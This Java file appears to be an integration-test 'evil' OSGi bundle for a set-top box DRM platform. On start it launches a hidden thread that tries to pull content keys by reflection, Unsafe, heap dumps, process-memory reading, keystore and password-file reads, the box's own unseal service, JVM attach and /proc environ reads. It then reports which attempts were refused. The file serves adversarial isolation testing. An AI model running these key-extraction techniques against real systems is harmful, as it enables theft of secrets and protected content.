package dev.usher.itests.threats.evil;

import java.io.IOException;
import java.io.InputStream;
import java.io.Writer;
import java.lang.management.ManagementFactory;
import java.lang.reflect.Method;
import java.net.URL;
import java.net.URLConnection;
import java.net.UnixDomainSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.security.Key;
import java.security.KeyStore;
import java.security.MessageDigest;
import java.util.Arrays;
import java.util.Base64;
import java.util.Optional;
import java.util.Properties;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import javax.management.ObjectName;
import org.osgi.framework.Bundle;
import org.osgi.framework.BundleActivator;
import org.osgi.framework.BundleContext;
import org.osgi.framework.ServiceReference;

/**
 * A driver that does its work and more: tries every way to the keys of what is being played, and
 * writes down how far each one led. Reads {@code evil/target} in the box's data, writes {@code
 * evil/report}: names of what was found, or {@code refused: } and by whom.
 */
public final class Intruder implements BundleActivator {
    private final Properties report = new Properties();
    private Path den;
    private Properties target;
    private Loot loot;

    /** One way to the keys. */
    private interface Way {
        Object go() throws Exception;
    }

    @Override
    public void start(BundleContext context) {
        Thread thread = new Thread(() -> plunder(context), "evil");
        thread.setDaemon(true);
        thread.start();
    }

    @Override
    public void stop(BundleContext context) {
        // what was taken is taken
    }

    private void plunder(BundleContext context) {
        den = Path.of(System.getProperty("karaf.data"), "evil");
        target = new Properties();
        try (InputStream in = Files.newInputStream(den.resolve("target"))) {
            target.load(in);
        } catch (IOException nobodyAsked) {
            return;
        }
        loot = new Loot(target);
        String host = target.getProperty("host", "");
        attempt("reflection", () -> walk(context, ObjectWalk::reflectively));
        attempt("unsafe", () -> walk(context, ObjectWalk.unsafely()));
        attempt("heap", this::heap);
        attempt("memory", () -> new Memory(loot).process("self"));
        attempt("classes", () -> classes(context));
        attempt("threads", Intruder::threads);
        attempt(
                "files",
                () -> files(target.getProperty("sealing"), target.getProperty("password")));
        attempt("service", () -> service(context));
        attempt("stream", () -> stream(target.getProperty("stream")));
        if (!host.isEmpty()) {
            attempt("host.memory", () -> new Memory(loot).process(host));
            attempt("host.attach", () -> attach(host));
            attempt("host.socket", () -> knock(target.getProperty("socket")));
            attempt(
                    "host.environment",
                    () -> Files.readAllBytes(Path.of("/proc", host, "environ")).length > 0);
        }
        try {
            Path written = den.resolve("report.tmp");
            try (Writer out = Files.newBufferedWriter(written)) {
                report.store(out, null);
            }
            Files.move(written, den.resolve("report"), StandardCopyOption.ATOMIC_MOVE);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private void attempt(String name, Way way) {
        String led;
        try {
            led = String.valueOf(way.go());
        } catch (Exception | LinkageError e) {
            led = "refused: " + e;
        }
        report.setProperty(name, led);
    }

    /** Whatever hangs on any service of the box and any of its threads. */
    private Set<String> walk(BundleContext context, ObjectWalk.Reader reader) throws Exception {
        ObjectWalk walk = new ObjectWalk(loot, reader);
        for (ServiceReference<?> reference : context.getAllServiceReferences(null, null)) {
            if (reference.getBundle() != null
                    && String.valueOf(reference.getBundle().getSymbolicName())
                            .startsWith("dev.usher.")) {
                walk.add(context.getService(reference));
            }
        }
        Thread.getAllStackTraces().keySet().forEach(walk::add);
        return walk.go();
    }

    private Set<String> heap() throws Exception {
        Path dump = den.resolve("heap.hprof");
        ManagementFactory.getPlatformMBeanServer()
                .invoke(
                        new ObjectName("com.sun.management:type=HotSpotDiagnostic"),
                        "dumpHeap",
                        new Object[] {dump.toString(), false},
                        new String[] {"java.lang.String", "boolean"});
        try {
            return new Memory(loot).file(dump);
        } finally {
            Files.delete(dump);
        }
    }

    /** Private classes of other bundles. */
    private static Set<String> classes(BundleContext context) {
        Set<String> loaded = new TreeSet<>();
        for (Bundle bundle : context.getBundles()) {
            for (String name :
                    new String[] {
                        "dev.usher.identity.internal.SealingKeys",
                        "dev.usher.player.internal.ClearStream",
                        "dev.usher.drm.host.internal.HostedSession"
                    }) {
                try {
                    loaded.add(bundle.loadClass(name).getSimpleName());
                } catch (ClassNotFoundException notThisOne) {
                    continue;
                }
            }
        }
        return loaded;
    }

    /** Whose threads can be seen. */
    private static Set<String> threads() {
        Set<String> names = new TreeSet<>();
        for (Thread thread : Thread.getAllStackTraces().keySet()) {
            if (thread.getName().startsWith("usher-drm")
                    || thread.getName().equals("usher-player")) {
                names.add(thread.getName());
            }
        }
        return names;
    }

    /** The sealing key from its file, with the password from the file beside it. */
    private Set<String> files(String store, String password) throws Exception {
        char[] word = Files.readString(Path.of(password)).strip().toCharArray();
        KeyStore keys = KeyStore.getInstance("PKCS12");
        try (InputStream in = Files.newInputStream(Path.of(store))) {
            keys.load(in, word);
        }
        Set<String> found = new TreeSet<>();
        for (String alias : java.util.Collections.list(keys.aliases())) {
            Key key = keys.getKey(alias, word);
            note(found, key.getEncoded());
        }
        return found;
    }

    /** Has the box itself open the licence, as its DRM system would. */
    private Set<String> service(BundleContext context) throws Exception {
        Base64.Decoder base64 = Base64.getUrlDecoder();
        String payload = new String(base64.decode(target.getProperty("licence").split("\\.")[1]));
        byte[] policy = base64.decode(member(payload, "policy"));
        Set<String> found = new TreeSet<>();
        for (ServiceReference<?> reference :
                context.getAllServiceReferences("dev.usher.settop.api.BoxKeys", null)) {
            Object keys = context.getService(reference);
            Method unseal =
                    Arrays.stream(keys.getClass().getMethods())
                            .filter(method -> method.getName().equals("unseal"))
                            .findFirst()
                            .orElseThrow();
            Optional<?> content =
                    (Optional<?>)
                            unseal.invoke(
                                    keys,
                                    member(payload, "suite"),
                                    base64.decode(member(payload, "enc")),
                                    base64.decode(member(payload, "ct")),
                                    "usher/licence/v1".getBytes(),
                                    MessageDigest.getInstance("SHA-256").digest(policy));
            content.ifPresent(key -> note(found, (byte[]) key));
        }
        return found;
    }

    /** What the renderer gets, everybody on the box gets. */
    private Set<String> stream(String url) throws IOException {
        URLConnection connection = new URL(url).openConnection();
        connection.setRequestProperty("Range", "bytes=200000-200099");
        Set<String> found = new TreeSet<>();
        try (InputStream in = connection.getInputStream()) {
            note(found, in.readNBytes(1000));
        }
        return found;
    }

    private void note(Set<String> found, byte[] bytes) {
        for (String name : loot.names()) {
            if (loot.isIn(name, bytes, bytes.length)) {
                found.add(name);
            }
        }
    }

    private static String member(String json, String name) {
        Matcher matcher = Pattern.compile("\"" + name + "\"\\s*:\\s*\"([^\"]*)\"").matcher(json);
        if (!matcher.find()) {
            throw new IllegalArgumentException("no " + name);
        }
        return matcher.group(1);
    }

    /** By the JDK's own tool. */
    private static String attach(String process) throws Exception {
        Process jcmd =
                new ProcessBuilder(
                                Path.of(System.getProperty("java.home"), "bin", "jcmd").toString(),
                                process,
                                "VM.version")
                        .redirectErrorStream(true)
                        .redirectOutput(ProcessBuilder.Redirect.DISCARD)
                        .start();
        // it knocks for long where nobody opens
        if (!jcmd.waitFor(30, TimeUnit.SECONDS)) {
            jcmd.destroyForcibly();
        }
        return jcmd.waitFor() == 0 ? "attached" : "refused: code " + jcmd.exitValue();
    }

    /** Says hello to the host. */
    private static String knock(String socket) throws IOException {
        try (SocketChannel channel = SocketChannel.open(UnixDomainSocketAddress.of(socket))) {
            channel.write(ByteBuffer.allocate(16));
            return channel.read(ByteBuffer.allocate(16)) > 0 ? "answered" : "refused: shown out";
        }
    }
}
